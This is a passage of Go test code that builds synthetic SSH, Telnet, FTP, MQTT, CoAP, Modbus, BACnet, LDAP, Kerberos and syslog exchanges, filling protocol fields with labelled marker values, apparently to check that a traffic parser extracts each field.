		pad := 8 - (5+len(body))%8 + 8
		return cat(be32(1+len(body)+pad), pad, body, zero(pad))
	}
	m.tcp(22, says(cat("SSH-2.0-", m.mark("client's software"), " ", m.mark("client's comment"), "\r\n")), answers(cat(m.mark("line before the version"), "\r\nSSH-2.0-OpenSSH_9.6 Ubuntu-", m.mark("server's comment"), "\r\n")), answers(kex("server's")), says(kex("client's")))
	m.tcp(22, answers(cat("SSH-2.0-", m.mark("server's software"), "\r\n")), says(cat("SSH-2.0-", m.mark("client's software"), "\r\n")), says(kex("client's")), answers(kex("server's")))
	m.tcp(22, answers(cat("SSH-1.", m.mark("version"), "-", m.mark("software of version 1"), "\r\n")), says(cat("SSH-1.5-x\r\n")))
}

func sayTelnet(m *marker) {
	line := func(field, end string) []byte { return cat(m.mark(field), end) }
	m.tcp(23, answers([]byte{255, 253, 24, 255, 253, 39}), says(cat(255, 250, 24, 0, m.mark("terminal type"), 255, 240, 255, 250, 39, 0, 0, "USER", 1, m.mark("environment's user"), 255, 240)),
		answers(cat(m.mark("banner"), "\r\n", m.mark("host in the prompt"), " login: ")), says(line("user", "\r\n")), answers([]byte("Password: ")), says(line("password", "\r\n")),
		answers(cat("\r\nLast login: today from ", m.mark("last login"), "\r\n", m.mark("prompt"), "$ ")), says(line("command", "\r\n")), answers(line("what it said", "\r\n$ ")))
	m.tcp(23, answers(cat(255, 253, 24, "login: ")), says(line("second user", "\r\n")), answers([]byte("Password: ")), says(line("wrong password", "\r\n")), answers(cat("\r\nLogin incorrect for ", m.mark("user refused"), "\r\nlogin: ")))
}

func sayFTP(m *marker) {
	var pieces []testpeer.Piece
	ask := func(command, field, code string) {
		pieces = append(pieces, says(cat(command, " ", m.mark(field), "\r\n")), answers(cat(code, " ", m.mark("answer to "+command), "\r\n")))
	}
	pieces = append(pieces, answers(cat("220-", m.mark("banner"), "\r\n ", m.mark("its second line"), "\r\n220 ", m.mark("host"), " FTP server (Version 6.4/OpenBSD/Linux-ftpd-0.17)\r\n")))
	ask("USER", "user", "331")
	ask("PASS", "wrong password", "530")
	ask("USER", "user", "331")
	ask("PASS", "password", "230")
	ask("ACCT", "account", "202")
	pieces = append(pieces, says([]byte("SYST\r\n")), answers(cat("215 Windows_NT ", m.mark("system"), "\r\n")))
	for _, c := range []string{"CWD", "STOR", "RETR", "RNFR", "SITE"} {
		ask(c, "argument of "+c, "250")
	}
	m.tcp(21, pieces...)
}

// MQTT 3.1.1 and 5.
func sayMQTT(m *marker) {
	packet := func(typ int, parts ...any) []byte {
		b := cat(parts...)
		if len(b) < 128 {
			return cat(typ, len(b), b)
		}
		if len(b) < 1<<14 {
			return cat(typ, len(b)&127|128, len(b)>>7, b)
		}
		return cat(typ, len(b)&127|128, len(b)>>7&127|128, len(b)>>14, b)
	}
	text := func(field string) []byte { return counted(m.mark(field)) }
	publish := func(topic string, payload any) []byte { return packet(0x30, counted(m.mark(topic)+"/x"), payload) }
	m.tcp(1883, says(packet(0x10, counted("MQTT"), 4, 0xc6, be16(60), text("client id"), text("will topic"), text("will message"), text("user"), text("password"))), answers(packet(0x20, 0, 0)),
		says(packet(0x82, be16(1), text("subscription"), 0)), answers(packet(0x90, be16(1), 0)), says(publish("topic", m.mark("payload"))), answers(publish("topic of the answer", m.mark("payload of the answer"))),
		says(publish("topic of HL7", m.hl7Admission())), says(packet(0xa2, be16(2), text("subscription ended"))), answers(packet(0xb0, be16(2))), says(packet(0xe0)))
	properties := func(list ...any) []byte {
		b := cat(list...)
		if len(b) > 127 {
			return cat(len(b)&127|128, len(b)>>7, b)
		}
		return shortCounted(b)
	}
	property := func(who string) []byte { return cat(0x26, text(who+" property"), text(who+" property's value")) }
	m.tcp(1883, says(packet(0x10, counted("MQTT"), 5, 0xc6, be16(60), properties(property("CONNECT"), 0x15, text("authentication method"), 0x16, text("authentication data")), text("client id of version 5"),
		properties(property("will"), 3, text("will's content type"), 8, text("will's response topic"), 9, text("will's correlation")), text("will topic of version 5"), text("will message of version 5"), text("user of version 5"), text("password of version 5"))),
		answers(packet(0x20, 0, 0x87, properties(0x12, text("assigned client id"), 0x1f, text("reason string"), property("CONNACK"), 0x1a, text("response information"), 0x1c, text("server reference")))),
		says(packet(0x30, text("topic of version 5"), properties(3, text("content type"), 8, text("response topic"), 9, text("correlation"), property("PUBLISH")), m.mark("payload of version 5"))),
		says(packet(0x82, be16(1), properties(property("SUBSCRIBE")), text("subscription of version 5"), 0)), answers(packet(0x90, be16(1), properties(0x1f, text("SUBACK's reason")), 0)),
		answers(packet(0xe0, 0x8e, properties(0x1f, text("DISCONNECT's reason")))))
}

// CoAP (RFC 7252).
func sayCoAP(m *marker) {
	// options are pairs of a number and a value, in order.
	options := func(list ...any) (b []byte) {
		last := 0
		for i := 0; i < len(list); i += 2 {
			v := list[i+1].(string)
			delta := list[i].(int) - last
			last += delta
			if delta < 13 {
				b = cat(b, delta<<4|len(v), v)
			} else {
				b = cat(b, 0xd0|len(v), delta-13, v)
			}
		}
		return b
	}
	mark := m.mark
	payload := func(field string) []byte { return cat(0xff, mark(field)) }
	request := options(3, mark("Uri-Host"), 11, mark("path"), 11, mark("second part of the path"), 15, mark("query"), 35, mark("Proxy-Uri"))
	response := options(4, mark("ETag"), 8, mark("Location-Path"), 20, mark("Location-Query"))
	m.udp(5683, says(cat(0x48, 2, be16(0x1234), mark("token"), request, payload("payload"))), answers(cat(0x68, 0x41, be16(0x1234), mark("token"), response, payload("content"))),
		says(cat(0x41, 1, be16(0x1235), "t", options(3, mark("Uri-Host"), 11, mark("path")))), answers(cat(0x61, 0x84, be16(0x1235), "t", payload("diagnostic"))))
}

func sayModbus(m *marker) {
	adu := func(parts ...any) []byte { b := cat(parts...); return cat(be16(1), be16(0), be16(1+len(b)), 1, b) }
	var objects []byte
	for i, field := range []string{"vendor", "product code", "revision", "vendor URL", "product name", "model", "application name"} {
		objects = cat(objects, i, shortCounted(m.mark(field)))
	}
	objects = cat(objects, 0x80, shortCounted(m.mark("private object")))
	m.tcp(502, says(adu(0x2b, 0x0e, 3, 0)), answers(adu(0x2b, 0x0e, 3, 0x83, 0, 0, 8, objects)),
		says(adu(0x10, be16(0), be16(markerBytes/2), markerBytes, m.mark("registers written"))), answers(adu(0x10, be16(0), be16(markerBytes/2))),
		says(adu(3, be16(0), be16(markerBytes/2))), answers(adu(3, markerBytes, m.mark("registers read"))),
		says(adu(0x11)), answers(adu(0x11, markerBytes+1, m.mark("server id"), 0xff)))
}

// BACnet/IP (ASHRAE 135 annex J).
func sayBACnet(m *marker) {
	packet := func(function int, npdu ...any) []byte {
		b := cat(npdu...)
		return cat(0x81, function, be16(4+len(b)), b)
	}
	text := func(tag int, field string) []byte { return cat(tag, 9, 0, m.mark(field)) } // 9 bytes: a character set, and a marker
	property := func(id int, field string) []byte { return cat(0x29, id, 0x4e, text(0x75, field), 0x4f) }
	object := func(typ int) []byte { return cat(0x0c, be32(typ<<22|1)) }
	all := func(who string) []byte {
		return cat(property(77, who+"object name"), property(121, who+"vendor name"), property(70, who+"model name"), property(44, who+"firmware revision"), property(12, who+"software version"), property(28, who+"description"), property(58, who+"location"))
	}
	m.udp(47808, says(packet(0x0a, 1, 4, 0, 4, 1, 0x0e, object(8), 0x1e, 0x09, 8, 0x1f)), answers(packet(0x0a, 1, 0, 0x30, 1, 0x0e, object(8), 0x1e, all(""), 0x1f, object(2), 0x1e, all("value's "), 0x1f)),
		says(packet(0x0b, 1, 0x20, be16(0xffff), 0, 255, 0x10, 7, text(0x3d, "name asked for"))), answers(packet(0x0b, 1, 0x20, be16(0xffff), 0, 255, 0x10, 1, 0xc4, be32(8<<22|1), 0xc4, be32(2<<22|1), text(0x75, "name announced"))),
		says(packet(0x0a, 1, 4, 0, 4, 2, 0x0f, object(2), 0x19, 28, 0x3e, text(0x75, "text written"), 0x3f)), answers(packet(0x0a, 1, 0, 0x20, 2, 0x0f)),
		says(packet(0x0a, 1, 0, 0x10, 5, object(8), 0x29, 0, text(0x3d, "message"))))
}

// LDAP (RFC 4511).
func sayLDAP(m *marker) {
	text := func(tag int, field string) []byte { return ber(tag, m.mark(field)) }
	message := func(op int, parts ...any) []byte { return ber(0x30, ber(2, 5), ber(op, parts...)) }
	result := func(op, code int, more ...any) []byte {
		return message(op, ber(10, code), text(4, "matched DN"), text(4, "diagnostic"), cat(more...))
	}
	dn := func(field string) []byte { return ber(4, "cn=", m.mark(field), ",dc=", m.mark("domain component")) }
	m.tcp(389, says(message(0x60, ber(2, 3), dn("wrong bind DN"), text(0x80, "wrong password"))), answers(result(0x61, 49)),
		says(message(0x60, ber(2, 3), dn("bind DN"), text(0x80, "password"))), answers(result(0x61, 0)),
		says(message(0x63, dn("base"), ber(10, 2), ber(10, 0), ber(2, 0), ber(2, 0), ber(1, 0), ber(0xa3, text(4, "filter's attribute"), text(4, "filter's value")), ber(0x30, text(4, "attribute asked for")))),
		answers(message(0x64, dn("entry"), ber(0x30, ber(0x30, text(4, "attribute"), ber(0x31, text(4, "value")))))), answers(message(0x73, ber(4, "ldap://", m.mark("referral")))), answers(result(0x65, 0)),
		says(message(0x77, ber(0x80, "1.3.6.1.4.1.4203.1.11.1"), ber(0x81, ber(0x30, text(0x80, "user whose password changes"), text(0x81, "old password"), text(0x82, "new password"))))), answers(result(0x78, 0, text(0x8b, "answer's value"))))
	m.tcp(389, says(message(0x60, ber(2, 3), ber(4), ber(0xa3, ber(4, "PLAIN"), ber(4, 0, m.mark("SASL user"), 0, m.mark("SASL password"))))), answers(result(0x61, 0)))
	m.tcp(389, says(message(0x60, ber(2, 3), dn("bind DN"), ber(0xa3, text(4, "mechanism"), text(4, "credentials")))), answers(result(0x61, 0, text(0x87, "server's credentials"))))
}

// Kerberos (RFC 4120).
func sayKerberos(m *marker) {
	number := func(n int) []byte { return ber(2, n) }
	text := func(field string) []byte { return ber(0x1b, m.mark(field)) }
	name := func(parts ...any) []byte { return ber(0x30, ber(0xa0, number(1)), ber(0xa1, ber(0x30, parts...))) }
	stamp := ber(0x18, "20260303060000Z")
	sealed := func(etype int, field string) []byte {
		return ber(0x30, ber(0xa0, number(etype)), ber(0xa2, ber(4, m.mark(field))))
	}
	ticket := func(sname []byte) []byte {
		return ber(0x61, ber(0x30, ber(0xa0, number(5)), ber(0xa1, text("ticket's realm")), ber(0xa2, sname), ber(0xa3, sealed(18, "ticket"))))
	}
	request := func(tag int, padata, cname, sname []byte) []byte {
		if cname != nil {
			cname = ber(0xa1, cname)
		}
		body := ber(0x30, ber(0xa0, ber(3, 0, 0x40, 0, 0, 0)), cname, ber(0xa2, text("realm")), ber(0xa3, sname), ber(0xa5, stamp), ber(0xa7, number(42)), ber(0xa8, ber(0x30, number(18))),
			ber(0xa9, ber(0x30, ber(0x30, ber(0xa0, number(20)), ber(0xa1, ber(4, fmt.Sprintf("%-16s", m.mark("NetBIOS address"))))))))
		return ber(tag, ber(0x30, ber(0xa1, number(5)), ber(0xa2, number(tag&0x1f)), ber(0xa3, ber(0x30, padata)), ber(0xa4, body)))
	}
	reply := func(tag int) []byte {
		return ber(tag, ber(0x30, ber(0xa0, number(5)), ber(0xa1, number(tag&0x1f)), ber(0xa3, text("crealm")), ber(0xa4, name(text("client in the reply"))), ber(0xa5, ticket(name(text("ticket's service"), text("ticket's host")))), ber(0xa6, sealed(18, "reply"))))
	}
	failure := ber(0x7e, ber(0x30, ber(0xa0, number(5)), ber(0xa1, number(30)), ber(0xa4, stamp), ber(0xa5, number(1)), ber(0xa6, number(6)), ber(0xa7, text("crealm of an error")), ber(0xa8, name(text("client of an error"))),
		ber(0xa9, text("realm of an error")), ber(0xaa, name(text("service of an error"))), ber(0xab, text("error text")), ber(0xac, ber(4, m.mark("error data")))))
	preauth := ber(0x30, ber(0xa1, number(2)), ber(0xa2, ber(4, sealed(18, "time stamp"))))
	krbtgt := name(ber(0x1b, "krbtgt"), text("realm"))
	m.udp(88, says(request(0x6a, preauth, name(text("user")), krbtgt)), answers(failure))
	m.udp(88, says(request(0x6a, preauth, name(ber(0x1b, m.mark("computer"), "$")), krbtgt)), answers(reply(0x6b)))
	shown := ber(0x30, ber(0xa1, number(1)), ber(0xa2, ber(4, ber(0x6e, ber(0x30, ber(0xa0, number(5)), ber(0xa1, number(14)), ber(0xa2, ber(3, zero(5))), ber(0xa3, ticket(krbtgt)), ber(0xa4, sealed(18, "authenticator")))))))
	m.udp(88, says(request(0x6c, shown, nil, name(text("service asked for"), text("its host")))), answers(reply(0x6d)))
}

func saySyslog(m *marker) {
	message := cat("<30>1 2026-03-03T07:09:00+01:00 ", m.mark("host"), " ", m.mark("application"), " ", m.mark("process"), " ", m.mark("message id"), " [", m.mark("element"), "@9 ", m.mark("parameter"), "=\"", m.mark("value"), "\"] ", m.mark("content"))
	m.udp(514, says(message))
	m.udp(514, says(cat("<30>Mar  3 07:09:00 ", m.mark("host"), " ", m.mark("tag"), "[1]: ", m.mark("old content"))))
	m.udp(514, says(cat("<30>", m.mark("content without a head"))))
	m.tcp(601, says(cat(fmt.Sprint(len(message)), " ", message)))
}
